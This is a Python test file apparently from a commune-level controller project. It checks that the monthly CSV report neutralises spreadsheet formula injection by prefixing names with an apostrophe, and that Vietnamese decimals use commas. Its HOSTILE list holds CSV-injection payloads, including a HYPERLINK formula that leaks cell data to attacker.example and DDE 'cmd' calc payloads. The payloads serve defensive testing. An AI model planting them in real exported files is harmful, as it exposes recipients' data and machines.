"""The monthly CSV never hands a spreadsheet a formula: names typed by people (points, villages)
that start like one are written as text (OWASP's advice: a leading '). Real SQLite, no browser."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from controller.models import Commune as CommuneRow
from controller.models import Node, Zone, now
from controller.reports.monthly import month_of, monthly_report
from controller.web.pages_reports import csv_text
from tests.controller.commune import Commune

HOSTILE = (
    '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def rows_with_hostile_names(commune: Commune) -> list[dict[str, str]]:
    with commune.db.session() as s:
        commune_id = s.scalars(select(CommuneRow.id)).one()
        for i, name in enumerate(HOSTILE):
            zone = Zone(commune_id=commune_id, code=f"xom-{i}", name=name)
            s.add(zone)
            s.flush()
            s.add(Node(id=f"loa-xau-{i}", name=name, zone_id=zone.id))
    with commune.db.session() as s:
        report = monthly_report(s, month_of(now()), now())
    text = csv_text(report, "vi")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_cell_starts_like_a_formula(commune):
    rows = rows_with_hostile_names(commune)
    cells = [value for row in rows for value in row.values()]
    assert cells
    offending = [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)]
    assert not offending


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_is_kept_whole_as_text(commune, name):
    rows = rows_with_hostile_names(commune)
    names = {row["Tên"] for row in rows}
    assert "'" + name in names


def test_numbers_stay_numbers(commune):
    rows = rows_with_hostile_names(commune)
    values = [row["Giá trị"] for row in rows if row["Giá trị"]]
    assert values
    assert all(is_number(v) for v in values)


def test_decimals_have_a_comma_in_vietnamese(commune):
    rows = rows_with_hostile_names(commune)
    decimals = [row["Giá trị"] for row in rows if not row["Giá trị"].isdigit() and row["Giá trị"]]
    assert decimals  # availability percentages at least
    assert all("," in v and "." not in v for v in decimals)


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True
